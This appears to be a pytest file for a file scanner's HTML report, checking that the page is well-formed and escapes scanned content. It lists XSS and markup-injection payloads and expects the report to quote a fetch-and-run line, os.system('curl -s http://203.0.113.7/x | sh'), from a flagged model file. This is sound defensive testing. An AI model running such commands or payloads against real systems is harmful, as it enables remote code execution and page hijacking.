"""The page: what it says, that it is well-formed, and that nothing that was scanned becomes part of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from toadstone import scan
from toadstone.core.finding import Confidence, Finding, Indicator, Severity
from toadstone.core.place import Place
from toadstone.core.report import Gap, Report, Subject
from toadstone.faces.cli import main
from toadstone.formats import Envelope, write

VOID = {"meta", "br"}
TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "ul", "ol", "li", "code", "pre", "div",
    "table", "thead", "tbody", "tr", "th", "td", "details", "summary", "br",
}  # fmt: skip
ATTRIBUTES = {"class", "lang", "charset", "http-equiv", "content", "name"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre></code></title></style><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!--", "-->", "]]>", "&lt;script&gt;", "&#60;script&#62;",
    "<style>body{background:url(http://203.0.113.7)}</style>",
    "<base href=//203.0.113.7>", "<meta http-equiv=refresh content=0;url=//203.0.113.7>",
    "\x00<\x00script\x00>", "\u202egpj.exe", "\u2028alert(1)\u2029", "\x1b[2J", "\udce4", "{{7*7}}", "+ADw-script+AD4-",
    "</textarea><iframe src=//203.0.113.7>", "a" * 5000,
]  # fmt: skip


class Page(HTMLParser):
    """Checks that every element is closed in order, and collects what there is."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.classes: set[str] = set()
        self.text: list[str] = []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.classes |= {word for name, value in attrs if name == "class" for word in (value or "").split()}
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")


def page(report: Report) -> Page:
    text = write(report, "html", Envelope())
    assert text == write(report, "html", Envelope(seconds=5.0)), "no clock in the page"
    read = Page(text)
    assert read.tags <= TAGS, read.tags - TAGS
    assert read.attributes <= ATTRIBUTES, read.attributes - ATTRIBUTES
    assert all(character.isprintable() or character == "\n" for character in text)
    assert text.count("<style>") == 1
    return read


def test_what_it_says(small):
    said = "\n".join(page(small).text)
    for words in (
        "malicious", "3 files looked at: 1 malicious, 1 incomplete, 1 clean.", "What to do", "unsafe-import",
        "Loading this calls os.system, which can run commands.", "os.system('curl -s http://203.0.113.7/x | sh')", "203.0.113.7",
        "Not read", "300 bytes not recognised (begins 93 af)", "Waived", "reviewed (until 2027-01-31)", "a" * 64,
    ):  # fmt: skip
        assert words in said, words


def test_a_clean_report(small):
    said = "\n".join(page(Report(small.subjects[1:2])).text)
    assert "Everything was read." in said
    assert "What to do" not in said
    assert "Findings" not in said


def test_a_hostile_report(hostile):
    page(hostile)


@pytest.mark.parametrize("words", PAYLOADS)
def test_nothing_that_was_scanned_becomes_markup(words):
    """The same payload in every field that a report has."""
    place = Place(words, words, 3)
    finding = Finding(
        words, Severity.CRITICAL, Confidence.HIGH, place, words,
        {"code": words, "decoded": words, words: words, "list": [words, {words: [words]}], "witness": words}, words,
        (Indicator(words, words, (((words, words), ("source", words)),)),), (words,), words,
    )  # fmt: skip
    origin = {"url": words, "commit": words, "etag": words, "claimed": {words: words}, "hub": {words: words}}
    subject = Subject(words, words, 5, {"sha256": words}, (Gap(place, words),), (finding,), ((finding, words),), origin)
    bare = page(
        Report(
            (
                Subject(
                    "a",
                    "text",
                    5,
                    {"sha256": "0"},
                    (Gap(Place("a", "b", 3), "c"),),
                    (),
                ),
            )
        )
    )
    full = page(Report((subject,)))
    assert full.tags <= TAGS
    assert not {"script", "img", "svg", "iframe", "base"} & full.tags
    assert bare.tags <= full.tags
    shown = "".join(full.text)
    if words.isascii() and words.isprintable():
        assert shown.count(words) >= 18, "every field is shown as it is"


def test_nothing_is_loaded_from_elsewhere(small):
    text = write(small, "html", Envelope())
    assert not re.search(r"\b(src|href|url\(|@import|action)\b\s*[=(:]", text.replace("form-action 'none'", ""))
    assert "default-src 'none'" in text


def test_over_the_command_line(root, tmp_path):
    target = tmp_path / "report.html"
    assert main(["scan", str(root / "examples" / "project" / "models"), "--format", "html", "--output", str(target)]) == 1
    read = Page(target.read_text(encoding="utf-8"))
    assert "posix.system" in "".join(read.text)
    assert scan(str(root / "examples" / "project" / "models")).findings
